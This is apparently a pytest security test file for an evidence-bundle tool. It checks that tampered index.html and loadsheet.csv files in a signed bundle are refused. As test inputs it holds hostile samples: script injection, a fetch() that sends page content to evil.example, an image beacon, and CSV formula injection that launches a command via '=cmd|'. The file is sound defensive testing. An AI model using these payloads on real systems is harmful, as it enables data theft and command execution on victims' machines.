"""Security: a bundle's index.html and loadsheet.csv must be exactly what our writers make,
so a hostile signer cannot have decrypt write a script or a spreadsheet formula next to
the evidence (audit finding 10)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from bundle_support import Pair, open_pair
from security_support import bag_files, rebuild

from evidence_app import bundle, report, verify
from evidence_app.errors import CheckFailed
from evidence_app.i18n import set_language


@pytest.fixture
def pair(tmp_path: Path) -> Iterator[Pair]:
    with open_pair(tmp_path) as p:
        yield p


def _check(pair: Pair, path: Path) -> verify.VerifyResult:
    with open(path, "rb") as fh:
        scan = verify.scan_bundle(fh, pair.bob.identity.age_identities())
    return verify.check_scan(scan, bundle.trust_lookup(pair.bob), pair.bob.fingerprint())


def test_our_own_files_pass(pair: Pair, tmp_path: Path) -> None:
    _, files = bag_files(pair, tmp_path)
    assert report.index_html_is_ours(files["data/index.html"])
    assert report.loadsheet_is_safe(files["data/loadsheet.csv"])
    result = _check(pair, tmp_path / "good.age")
    assert result.ok
    assert {f.subject for f in result.findings if f.check == "reports"} == {
        "data/index.html", "data/loadsheet.csv"}


@pytest.mark.parametrize("lang", ["fa", "tg", "ru"])
def test_our_files_pass_in_every_language(pair: Pair, tmp_path: Path, lang: str) -> None:
    set_language(lang)
    try:
        _, files = bag_files(pair, tmp_path)
    finally:
        set_language()
    assert report.index_html_is_ours(files["data/index.html"])
    assert report.loadsheet_is_safe(files["data/loadsheet.csv"])


def _index_variants(good: bytes) -> list[bytes]:
    text = good.decode()
    return [s.encode() for s in (
        text.replace("<h1>", "<script>alert(1)</script><h1>", 1),
        text.replace("<h1>", '<h1 onclick="x()">', 1),
        text.replace("<body>", '<body><meta http-equiv="refresh" content="0;url=https://e">', 1),
        text.replace("default-src 'none'", "default-src *", 1),
        text.replace("<table>", "<img src=https://evil.example/x.png><table>", 1),
        text.replace("</body></html>\n", "", 1),
    )]


def test_index_html_variants_are_refused(pair: Pair, tmp_path: Path) -> None:
    _, files = bag_files(pair, tmp_path)
    for bad in _index_variants(files["data/index.html"]):
        assert not report.index_html_is_ours(bad), bad[:200]


def test_loadsheet_variants_are_refused(pair: Pair, tmp_path: Path) -> None:
    _, files = bag_files(pair, tmp_path)
    good = files["data/loadsheet.csv"]
    for bad in (good + b'"=cmd|\' /C calc\'!A0","","","","","","","",""\r\n',
                good + b'" @SUM(1)","","","","","","","",""\r\n',
                good.removeprefix(b"\xef\xbb\xbf"),
                good + b'"x"\r\n'):
        assert not report.loadsheet_is_safe(bad), bad[-60:]


@pytest.mark.parametrize("name, payload", [
    ("data/index.html", b"<script>fetch('https://evil.example/?'+document.body.innerHTML)"
                        b"</script>"),
    ("data/loadsheet.csv", "\ufeff\"=cmd|' /C calc'!A0\"\r\n".encode()),
])
def test_signed_bundle_with_hostile_report_is_refused(
        pair: Pair, tmp_path: Path, name: str, payload: bytes) -> None:
    root, files = bag_files(pair, tmp_path)
    files[name] = payload
    hostile = rebuild(pair, root, files, tmp_path / "hostile.age")
    result = _check(pair, hostile)
    assert not result.ok
    assert [f.subject for f in result.findings if not f.ok] == [name]
    with pytest.raises(CheckFailed):
        bundle.decrypt_bundle(pair.bob, hostile, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    with pytest.raises(CheckFailed):
        bundle.import_bundle(pair.bob, hostile)
